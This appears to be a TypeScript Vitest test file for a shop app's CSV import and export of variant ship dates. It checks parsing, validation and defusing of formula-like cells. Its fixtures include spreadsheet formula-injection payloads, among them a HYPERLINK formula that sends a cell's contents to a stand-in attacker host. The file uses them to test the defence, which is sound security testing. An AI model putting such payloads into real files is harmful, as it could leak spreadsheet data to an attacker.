import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { parseCsv } from "../../web/server/csv/read-csv.ts";
import { isoDaysFromToday as addDays } from "../helpers/future-date.ts";
import { startEtaTestShop, type EtaTestShop } from "./eta-test-shop.ts";

const HOSTILE = '=HYPERLINK("https://evil.example/","SKU")';

describe("ETA CSV import and export API", () => {
  let t: EtaTestShop;
  let mug: bigint[];
  let cup: { productId: bigint; variantIds: bigint[] };
  let denyVariant: bigint;
  let hostile: bigint;
  beforeAll(async () => {
    t = await startEtaTestShop("Eta Csv");
    mug = (
      await t.addProduct("Mug", [
        { title: "Blue", sku: "MUG-BLUE", inventoryPolicy: "CONTINUE", available: -2 },
        { title: "Red", sku: "MUG-RED", inventoryPolicy: "CONTINUE", available: 5 },
      ])
    ).variantIds;
    cup = await t.addProduct('=Cup, "fine"', [
      { title: "Default Title", sku: "CUP", inventoryPolicy: "CONTINUE", available: 0 },
    ]);
    denyVariant = (
      await t.addProduct("Plate", [
        { title: "Default Title", sku: "PLATE", inventoryPolicy: "DENY", available: 3 },
      ])
    ).variantIds[0]!;
    hostile = (
      await t.addProduct("Lamp", [
        { title: "Default Title", sku: HOSTILE, inventoryPolicy: "CONTINUE", available: -4 },
      ])
    ).variantIds[0]!;
  });
  afterAll(() => t?.close());
  beforeEach(async () => {
    await t.app.deps.db.variantEta.deleteMany({});
    await t.app.deps.db.shopSettings.update({
      where: { shopId: t.shopId },
      data: { defaultLeadTimeDays: null },
    });
    await t.app.deps.queues.get("shopify").drain(true);
    await t.app.deps.queues.get("events").drain(true);
  });

  const put = (id: bigint | string, json: unknown) => t.api(`/etas/${id}`, { method: "PUT", json });

  it("exports every variant as CSV that the import takes back unchanged", async () => {
    const eta = addDays(15);
    await put(cup.variantIds[0]!, { eta, message: 'Say "when", please' });
    const res = await t.api("/etas/export.csv");
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toMatch(/^text\/csv/);
    const text = await res.text();
    const parsed = parseCsv(text);
    if (!parsed.ok) throw new Error(parsed.message);
    const [header, ...rows] = parsed.records;
    expect(header).toEqual([
      "variant_id",
      "sku",
      "product_title",
      "variant_title",
      "eta",
      "message",
      "resolved_eta",
      "eta_source",
      "overdue",
      "available",
    ]);
    expect(rows).toHaveLength(5);
    const cupRow = rows.find((r) => r[1] === "CUP");
    // A title that starts like a formula is defused for spreadsheets.
    expect(cupRow).toEqual([
      cup.variantIds[0]!.toString(),
      "CUP",
      '=Cup, "fine"',
      "Default Title",
      eta,
      'Say "when", please',
      eta,
      "variant",
      "false",
      "0",
    ]);

    // A title that starts like a formula is defused for spreadsheets; the import reads it back as set.
    expect(text).toContain(`,"'=Cup, ""fine""",`);

    const before = await t.app.deps.db.variantEta.findMany({
      orderBy: { variantId: "asc" },
      select: { variantId: true, etaDate: true, message: true },
    });
    const back = await t.api("/etas/import", {
      method: "POST",
      headers: { "Content-Type": "text/csv" },
      body: text,
    });
    expect(back.status).toBe(200);
    expect(await back.json()).toMatchObject({ applied: true, rows: 5, updated: 5, errors: [] });
    const after = await t.app.deps.db.variantEta.findMany({
      orderBy: { variantId: "asc" },
      select: { variantId: true, etaDate: true, message: true },
    });
    expect(after.filter((r) => r.etaDate || r.message)).toEqual(before);
  });

  it("exports a SKU and message that start like a formula defused, stock counts as numbers", async () => {
    const message = '=HYPERLINK("https://evil.example/?leak="&A1,"Track")';
    expect((await put(hostile, { eta: addDays(20), message })).status).toBe(200);
    const text = await (await t.api("/etas/export.csv")).text();
    const line = text.split("\r\n").find((l) => l.startsWith(`${hostile},`));
    expect(line).toBe(
      `${hostile},"'${HOSTILE.replace(/"/g, '""')}",Lamp,Default Title,${addDays(20)},` +
        `"'${message.replace(/"/g, '""')}",${addDays(20)},variant,false,-4`,
    );
    // Back in through the import, the cells are what the merchant set.
    const back = await t.api("/etas/import", { method: "POST", json: { csv: text } });
    expect(back.status).toBe(200);
    const row = await t.app.deps.db.variantEta.findUniqueOrThrow({
      where: { shopId_variantId: { shopId: t.shopId, variantId: hostile } },
    });
    expect(row.message).toBe(message);
  });

  it("imports a semicolon-separated file with a BOM and quoted fields, as European Excel saves it", async () => {
    const csv =
      `\uFEFFsku;eta;message\r\n"MUG-BLUE";${addDays(12)};"Ships; ""soon"", promised"\r\n` +
      `"${HOSTILE.replace(/"/g, '""')}";${addDays(13)};Lamp\r\n`;
    const res = await t.api("/etas/import", {
      method: "POST",
      headers: { "Content-Type": "text/csv" },
      body: csv,
    });
    expect(res.status).toBe(200);
    expect(await res.json()).toEqual({ applied: true, rows: 2, updated: 2, errors: [], warnings: [] });
    const rows = await t.app.deps.db.variantEta.findMany({ orderBy: { variantId: "asc" } });
    expect(rows.map((r) => [r.variantId, r.etaDate?.toISOString().slice(0, 10), r.message])).toEqual([
      [mug[0]!, addDays(12), 'Ships; "soon", promised'],
      [hostile, addDays(13), "Lamp"],
    ]);
  });

  it("imports good rows by sku and variant id, as text/csv or JSON", async () => {
    const csv = `sku,variant_id,eta,message\r\nMUG-BLUE,,${addDays(10)},Soon\r\n,${denyVariant},${addDays(11)},\r\n`;
    const res = await t.api("/etas/import", { method: "POST", json: { csv } });
    expect(res.status).toBe(200);
    expect(await res.json()).toEqual({ applied: true, rows: 2, updated: 2, errors: [], warnings: [] });
    const rows = await t.app.deps.db.variantEta.findMany({ orderBy: { variantId: "asc" } });
    expect(
      rows.map((r) => [r.variantId, r.etaDate?.toISOString().slice(0, 10), r.message, r.source]),
    ).toEqual(
      [
        [mug[0]!, addDays(10), "Soon", "csv"],
        [denyVariant, addDays(11), null, "csv"],
      ].sort((a, b) => (a[0]! < b[0]! ? -1 : 1)),
    );
  });

  it("imports a date already past with a warning on its row, and shoppers see no date", async () => {
    const past = addDays(-3);
    const csv = `sku,eta,message\nMUG-BLUE,${past},Late shipment\nCUP,${addDays(0)},\n`;
    const res = await t.api("/etas/import", {
      method: "POST",
      headers: { "Content-Type": "text/csv" },
      body: csv,
    });
    expect(res.status).toBe(200);
    expect(await res.json()).toEqual({
      applied: true,
      rows: 2,
      updated: 2,
      errors: [],
      warnings: [
        {
          row: 2,
          column: "eta",
          message: `${past} has already passed: shoppers and customers see no date for this variant until you set a later one`,
        },
      ],
    });
    const view = await (await t.api(`/etas/${mug[0]}`)).json();
    expect(view.variant).toMatchObject({ eta: past, overdue: true, shopperEta: null });
  });

  it("applies nothing when any row is bad and reports each bad row", async () => {
    await put(mug[0]!, { eta: addDays(5), message: "kept" });
    const csv = [
      "sku,eta,message",
      `MUG-BLUE,${addDays(50)},changed`,
      `NOPE,${addDays(50)},`,
      "MUG-RED,2026-13-01,",
      `MUG-BLUE,${addDays(51)},`,
    ].join("\n");
    const res = await t.api("/etas/import", {
      method: "POST",
      headers: { "Content-Type": "text/csv" },
      body: csv,
    });
    expect(res.status).toBe(422);
    const body = await res.json();
    expect(body.details).toEqual({
      applied: false,
      rows: 4,
      updated: 0,
      errors: [
        { row: 3, column: "sku", message: 'no variant with sku "NOPE"' },
        { row: 4, column: "eta", message: '"2026-13-01" is not a date as YYYY-MM-DD' },
        { row: 5, message: `variant ${mug[0]} is already on row 2` },
      ],
      warnings: [],
    });
    const row = await t.app.deps.db.variantEta.findUniqueOrThrow({
      where: { shopId_variantId: { shopId: t.shopId, variantId: mug[0]! } },
    });
    expect([row.etaDate?.toISOString().slice(0, 10), row.message, row.source]).toEqual([
      addDays(5),
      "kept",
      "manual",
    ]);
    expect(await t.app.deps.db.variantEta.count()).toBe(1);

    const malformed = await t.api("/etas/import", {
      method: "POST",
      json: { csv: 'sku,eta\n"open,2026-12-01\n' },
    });
    expect(malformed.status).toBe(422);
    expect((await malformed.json()).details.errors).toEqual([
      { row: 2, message: "malformed CSV: a quoted field is not closed" },
    ]);
    expect((await t.api("/etas/import", { method: "POST", json: { nope: 1 } })).status).toBe(400);
  });
});
